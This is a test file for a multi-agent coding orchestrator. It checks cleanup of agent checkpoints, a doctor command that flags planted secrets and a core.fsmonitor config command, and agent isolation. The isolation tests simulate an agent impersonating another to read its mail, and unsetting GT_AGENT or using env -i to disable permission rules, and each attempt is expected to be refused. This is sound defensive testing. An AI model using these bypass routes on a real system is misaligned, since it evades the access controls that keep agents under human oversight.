    writeFileSync(join(repo, 'info', 'exclude'), 'build/\n');
    mkdirSync(join(worktree, 'build'));
    writeFileSync(join(worktree, 'build', 'out.bin'), 'x');
    const second = town.gt(['polecat', 'nuke', agent]);
    expect(second.code).not.toBe(0);
    expect(second.stderr).toContain('1 stash entry (stash@{0})');
    expect(second.stderr).toContain('tag on unmerged commits (wip-tag)');

    const nuked = town.json<{ checkpoints_held: string[]; ignored_dropped: string[] }>(['polecat', 'nuke', agent, '--force']);
    expect(nuked.ignored_dropped).toEqual(['build/']);
    expect(nuked.checkpoints_held).toHaveLength(2);
    const [stashRef, tagRef] = nuked.checkpoints_held as [string, string];
    expect(town.git(repo, ['ls-tree', '-r', '--name-only', `${stashRef}^3`])).toContain('late.txt');
    expect(town.git(repo, ['log', '-1', '--format=%s', tagRef]).trim()).toBe('experiment');

    // rig remove: the stash and the tag go with the repository; it says so, and does it only with --discard-checkpoints.
    const refused = town.gt(['rig', 'remove', 'app']);
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toContain('wip-tag');
    expect(refused.stderr).toContain('stash@{0}');
    const removed = town.gt(['rig', 'remove', 'app', '--discard-checkpoints', '--json']);
    expect(removed.code, removed.stderr).toBe(0);
    const { discarded } = JSON.parse(removed.stdout) as { discarded: string[] };
    expect(discarded).toContain('refs/tags/wip-tag');
    expect(discarded.some((d) => d.startsWith('stash@{0} (On polecat/'))).toBe(true);
    expect(discarded.filter((d) => d.startsWith('refs/gt/checkpoints/')).length).toBeGreaterThan(0);
    expect(removed.stderr).toContain('refs/tags/wip-tag');
  });
});

interface DoctorJson {
  ok: boolean;
  checks: Array<{ check: string; status: string; message: string; fix?: string }>;
  summary: Record<string, number>;
}

describe('gt doctor (file modes and secret exposure)', () => {
  it('passes on a fresh town, and names each exposure with a fix; exit 1 when a check fails', () => {
    const town = makeTown({ rig: 'app' });
    const clean = town.gt(['doctor', '--json']);
    expect(clean.code, clean.stdout + clean.stderr).toBe(0);
    const report = JSON.parse(clean.stdout) as DoctorJson;
    const security = ['town-modes', 'file-modes', 'session-secrets', 'tmux-argv', 'rig-urls', 'push-protection', 'repo-config-commands'];
    expect(report.checks.map((c) => c.check)).toEqual(expect.arrayContaining(security));
    const mine = (r: DoctorJson) => r.checks.filter((c) => security.includes(c.check));
    expect(
      mine(report).every((c) => c.status === 'ok'),
      JSON.stringify(report.checks),
    ).toBe(true);

    // Every exposure the issue found, made by hand.
    const secret = 'sk-ant-test-0123456789abcdefABCDEF';
    chmodSync(town.root, 0o755);
    chmodSync(join(town.root, '.gt', 'ledger.db'), 0o644);
    mkdirSync(join(town.root, '.gt', 'runs', 'old-run'), { recursive: true });
    writeFileSync(join(town.root, '.gt', 'runs', 'old-run', 'session.json'), JSON.stringify({ env: { ANTHROPIC_API_KEY: secret } }), { mode: 0o644 });
    const rigToml = join(town.root, 'app', 'rig.toml');
    writeFileSync(
      rigToml,
      readFileSync(rigToml, 'utf8').replace(/git_url = ".*"/, 'git_url = "https://bob:ghp_0123456789abcdefghijABCDEFGHIJ@github.com/o/app.git"'),
    );
    town.git(join(town.root, 'app', '.repo.git'), ['config', '--unset', 'remote.origin.pushurl']);
    // What an agent's `git config core.fsmonitor …` in its worktree would leave (review of 2026-11-28, finding 1).
    town.git(join(town.root, 'app', '.repo.git'), ['config', 'core.fsmonitor', '/bin/true']);
    // A tmux server started the old way: the environment on its command line.
    expect(town.tmux(['new-session', '-d', '-s', 'old', '-e', `ANTHROPIC_API_KEY=${secret}`, 'sleep', '60']).code).toBe(0);

    const sick = town.gt(['doctor', '--json']);
    expect(sick.code).toBe(1);
    expect(sick.stdout).not.toContain(secret);
    const found = JSON.parse(sick.stdout) as DoctorJson;
    const status = Object.fromEntries(mine(found).map((c) => [c.check, c.status]));
    expect(status).toEqual({
      'town-modes': 'fail',
      'file-modes': 'fail',
      'session-secrets': 'fail',
      'tmux-argv': 'fail',
      'rig-urls': 'fail',
      'push-protection': 'fail',
      'repo-config-commands': 'fail',
    });
    expect(found.checks.find((c) => c.check === 'repo-config-commands')?.message).toContain('app: core.fsmonitor');
    expect(mine(found).every((c) => c.fix !== undefined && c.message !== '')).toBe(true);
    expect(found.checks.find((c) => c.check === 'file-modes')?.message).toContain('.gt/ledger.db (644)');
    const text = town.gt(['doctor']);
    expect(text.code).toBe(1);
    expect(text.stdout).toMatch(/FAIL {2}tmux-argv /);
    expect(text.stdout).toMatch(/\d+ ok, \d+ warning\(s\), 7 failed/);
    chmodSync(town.root, 0o700);
  });
});

describe("another agent's mail (the trust model's mail guarantee)", () => {
  it('an agent reads its own mail only: not through gt mail --agent, bd show or list, nor the event stream; a person reads everything', () => {
    const town = makeTown({ rig: 'app' });
    const rigDir = join(town.root, 'app');
    const other = 'app/polecats/slit';
    for (const address of [AGENT.GT_AGENT, other]) expect(town.gt(['sling', town.bead(`Work of ${address}`, ['true']), address, '--no-start']).code).toBe(0);
    const secret = town.json<{ id: string }>(['mail', 'send', other, '-s', 'the deploy key rotates tonight', '-m', 'details']);
    const mine = town.json<{ id: string }>(['mail', 'send', AGENT.GT_AGENT, '-s', 'for nux', '-m', 'hello']);

    // Impersonation: --agent is the caller itself, or refused.
    const inbox = town.gt(['mail', 'inbox', '--agent', other, '--json'], { env: AGENT });
    expect(inbox.code).toBe(5);
    expect(inbox.stderr).toContain(`acts only as itself, not as ${other}`);
    expect(town.gt(['done', '--agent', other], { env: AGENT }).code).toBe(5);
    // bd and the stream: the other agent's message is absent, its own is there.
    const shown = town.gt(['bd', 'show', secret.id], { cwd: rigDir, env: AGENT });
    expect(shown.code).not.toBe(0);
    expect(shown.stdout).not.toContain('deploy key');
    const listed = town.gt(['bd', 'list', '--type', 'message', '--all', '--json'], { cwd: rigDir, env: AGENT });
    expect(listed.stdout).not.toContain('deploy key');
    expect(listed.stdout).toContain(mine.id);
    const events = town.gt(['events', '--type', 'mail', '--json'], { env: AGENT });
    expect(events.stdout).not.toContain('deploy key');
    expect(events.stdout).toContain('for nux');
    expect(town.gt(['bd', 'export'], { cwd: rigDir, env: AGENT }).stdout).not.toContain('deploy key');
    // Nor through the audit trail, a partial ID, or deleting it.
    expect(town.gt(['bd', 'events', '--json'], { cwd: rigDir, env: AGENT }).stdout).not.toContain(secret.id);
    expect(town.gt(['bd', 'show', secret.id.slice(0, -1)], { cwd: rigDir, env: AGENT }).stderr).not.toContain(secret.id);
    expect(town.gt(['bd', 'delete', secret.id, '--force'], { cwd: rigDir, env: AGENT }).code).not.toBe(0);
    expect(town.gt(['bd', 'show', secret.id], { cwd: rigDir }).stdout).toContain('deploy key');
    // Its own inbox works as before; a person (no GT_AGENT) sees both.
    expect(town.json<Array<{ id: string }>>(['mail', 'inbox'], { env: AGENT }).map((m) => m.id)).toEqual([mine.id]);
    expect(town.gt(['bd', 'show', secret.id], { cwd: rigDir }).stdout).toContain('deploy key');
    expect(town.json<unknown[]>(['mail', 'inbox', '--agent', other])).toHaveLength(1);
  });
});

describe('an agent that drops its identity (GT_AGENT) is still that agent', () => {
  it('unset, export -n and env -i in its shell do not make its gt and bd a person: the identity comes from the process that started the shell', () => {
    const town = makeTown({ rig: 'app' });
    const other = 'app/polecats/slit';
    for (const address of [AGENT.GT_AGENT, other]) expect(town.gt(['sling', town.bead(`Work of ${address}`, ['true']), address, '--no-start']).code).toBe(0);
    const secret = town.json<{ id: string }>(['mail', 'send', other, '-s', 'for slit only', '-m', 'private']);
    const before = readFileSync(join(town.root, 'town.toml'), 'utf8');
    // The agent's shell (started with GT_AGENT, as every agent's tools are) runs gt after shedding it.
    const inAgentShell = (script: string) =>
      spawnSync('sh', ['-c', script], {
        cwd: join(town.root, 'app', 'polecats', 'nux'),
        env: { ...town.env, ...AGENT, GT: GT, NODE: process.execPath },
        encoding: 'utf8',
      });
    const config = inAgentShell('unset GT_AGENT BD_ACTOR; "$NODE" "$GT" config set permissions.builtin_rules false');
    expect(config.status, config.stderr).toBe(5);
    expect(config.stderr).toContain('app/polecats/nux');
    const envI = inAgentShell('env -i PATH="$PATH" HOME="$HOME" GT_ROOT="$GT_ROOT" "$NODE" "$GT" config set permissions.default deny');
    expect(envI.status, envI.stderr).toBe(5);
    expect(readFileSync(join(town.root, 'town.toml'), 'utf8')).toBe(before);
    const mail = inAgentShell(`unset GT_AGENT BD_ACTOR; "$NODE" "$GT" mail inbox --agent ${other} --json`);
    expect(mail.status).toBe(5);
    const bd = inAgentShell(`unset GT_AGENT BD_ACTOR; "$NODE" "$GT" bd show ${secret.id}`);
    expect(bd.stdout).not.toContain('private');
    // A person's own terminal (no agent among its ancestors) is a person.
    expect(town.json<unknown[]>(['mail', 'inbox', '--agent', other])).toHaveLength(1);
  });
});
